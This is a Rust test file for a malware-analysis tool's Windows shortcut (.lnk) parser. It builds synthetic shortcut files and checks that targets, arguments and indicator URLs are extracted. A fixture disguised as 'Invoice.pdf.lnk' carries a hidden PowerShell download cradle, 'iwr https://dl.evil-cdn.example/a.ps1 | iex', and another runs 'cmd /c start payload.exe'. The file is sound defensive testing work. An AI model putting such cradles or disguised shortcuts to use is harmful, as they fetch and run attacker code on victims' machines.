//! document_info on Windows shortcuts built here by MS-SHLLINK: the target from LinkInfo, from
//! the environment-variable block and from the shell item ID list alone (malware shortcuts carry
//! any one of them), the arguments (a PowerShell cradle whose URL becomes an indicator), working
//! directory and icon — through the served tool.

mod server;

use maljan_analysis::document_lnk::shortcut;
use serde_json::json;
use server::Server;

const IS_UNICODE: u32 = 0x80;

fn header(flags: u32) -> Vec<u8> {
    let mut h = vec![0u8; 0x4C];
    h[0] = 0x4C;
    h[4..8].copy_from_slice(&[0x01, 0x14, 0x02, 0x00]);
    h[0x0C..0x14].copy_from_slice(&[0xC0, 0, 0, 0, 0, 0, 0, 0x46]);
    h[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
    h
}

fn string(s: &str) -> Vec<u8> {
    let units: Vec<u16> = s.encode_utf16().collect();
    let mut out = (units.len() as u16).to_le_bytes().to_vec();
    out.extend(units.iter().flat_map(|u| u.to_le_bytes()));
    out
}

/// LinkInfo with an ANSI local base path and an empty suffix.
fn link_info(base: &str) -> Vec<u8> {
    let mut info = vec![0u8; 0x1C];
    let base_at = 0x1C;
    let suffix_at = base_at + base.len() + 1;
    let size = suffix_at + 1;
    info[0..4].copy_from_slice(&(size as u32).to_le_bytes());
    info[4..8].copy_from_slice(&0x1Cu32.to_le_bytes());
    info[8..12].copy_from_slice(&1u32.to_le_bytes());
    info[0x10..0x14].copy_from_slice(&(base_at as u32).to_le_bytes());
    info[0x18..0x1C].copy_from_slice(&(suffix_at as u32).to_le_bytes());
    info.extend_from_slice(base.as_bytes());
    info.extend_from_slice(&[0, 0]);
    info
}

fn environment_block(target: &str) -> Vec<u8> {
    let mut b = vec![0u8; 8 + 260 + 520];
    let size = b.len() as u32;
    b[0..4].copy_from_slice(&size.to_le_bytes());
    b[4..8].copy_from_slice(&0xA000_0001u32.to_le_bytes());
    b[8..8 + target.len()].copy_from_slice(target.as_bytes());
    for (i, u) in target.encode_utf16().enumerate() {
        b[268 + i * 2..270 + i * 2].copy_from_slice(&u.to_le_bytes());
    }
    b.extend_from_slice(&0u32.to_le_bytes()); // terminal block
    b
}

/// A shortcut as a phishing kit writes one: a document's icon, powershell with a download cradle.
fn cradle_lnk() -> Vec<u8> {
    // HasLinkInfo | HasWorkingDir | HasArguments | HasIconLocation | IsUnicode
    let mut l = header(0x02 | 0x10 | 0x20 | 0x40 | IS_UNICODE);
    l.extend(link_info(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    ));
    l.extend(string("%TEMP%"));
    l.extend(string(
        "-w hidden -c \"iwr https://dl.evil-cdn.example/a.ps1 | iex\"",
    ));
    l.extend(string("C:\\Windows\\System32\\shell32.dll"));
    l.extend(environment_block(
        "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    ));
    l
}

#[test]
fn the_target_and_arguments_come_from_link_info_and_string_data() {
    let s = shortcut(&cradle_lnk()).unwrap();
    assert_eq!(
        s.target.as_deref(),
        Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    assert_eq!(s.target_from.as_deref(), Some("link_info"));
    assert!(
        s.arguments
            .as_deref()
            .unwrap()
            .contains("iwr https://dl.evil-cdn.example/a.ps1")
    );
    assert_eq!(s.working_dir.as_deref(), Some("%TEMP%"));
    assert_eq!(
        s.icon_location.as_deref(),
        Some("C:\\Windows\\System32\\shell32.dll")
    );
    assert_eq!(
        s.environment_target.as_deref(),
        Some("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
}

#[test]
fn a_shortcut_with_only_an_id_list_or_an_environment_block_still_names_its_target() {
    // ID list: My Computer, then C:\, Windows, System32, cmd.exe.
    let mut list = vec![20u8, 0, 0x1F, 0x50];
    list.resize(20, 0);
    let mut volume = vec![25u8, 0, 0x2F];
    volume.extend_from_slice(b"C:\\\0");
    volume.resize(25, 0);
    list.extend(volume);
    for (kind, name) in [(0x31u8, "Windows"), (0x31, "System32"), (0x32, "cmd.exe")] {
        let mut item = vec![0u8; 14];
        item[2] = kind;
        item.extend_from_slice(name.as_bytes());
        item.push(0);
        if item.len() % 2 == 1 {
            item.push(0);
        }
        item[0] = item.len() as u8;
        list.extend(item);
    }
    list.extend([0, 0]);
    let mut l = header(0x01 | 0x20 | IS_UNICODE);
    l.extend((list.len() as u16).to_le_bytes());
    l.extend(list);
    l.extend(string("/c start payload.exe"));
    let s = shortcut(&l).unwrap();
    assert_eq!(s.target.as_deref(), Some("C:\\Windows\\System32\\cmd.exe"));
    assert_eq!(s.target_from.as_deref(), Some("id_list"));
    assert_eq!(s.arguments.as_deref(), Some("/c start payload.exe"));

    let mut l = header(0x20 | IS_UNICODE);
    l.extend(string("/c calc"));
    l.extend(environment_block("%COMSPEC%"));
    let s = shortcut(&l).unwrap();
    assert_eq!(s.target.as_deref(), Some("%COMSPEC%"));
    assert_eq!(s.target_from.as_deref(), Some("environment"));
}

#[tokio::test]
async fn document_info_reads_a_shortcut_and_its_url_is_an_indicator() {
    let srv = Server::new(&[("Invoice.pdf.lnk", cradle_lnk())]);
    // identify_file routes a shortcut to document_info, so `maljan analyze` reads it too.
    let (kind, _) = srv
        .call(
            "identify_file",
            json!({"path": srv.path("Invoice.pdf.lnk")}),
        )
        .await;
    assert_eq!(kind["kind"], "lnk", "{kind}");
    assert_eq!(kind["analysis_tool"], "document_info", "{kind}");
    let (v, is_error) = srv
        .call(
            "document_info",
            json!({"path": srv.path("Invoice.pdf.lnk")}),
        )
        .await;
    assert!(!is_error, "{v}");
    assert_eq!(v["format"], "lnk");
    assert!(
        v["shortcut"]["target"]
            .as_str()
            .unwrap()
            .ends_with("powershell.exe"),
        "{v}"
    );
    assert!(
        v["indicators"]
            .as_array()
            .unwrap()
            .iter()
            .any(|i| i.to_string().contains("dl.evil-cdn.example")),
        "{v}"
    );
}
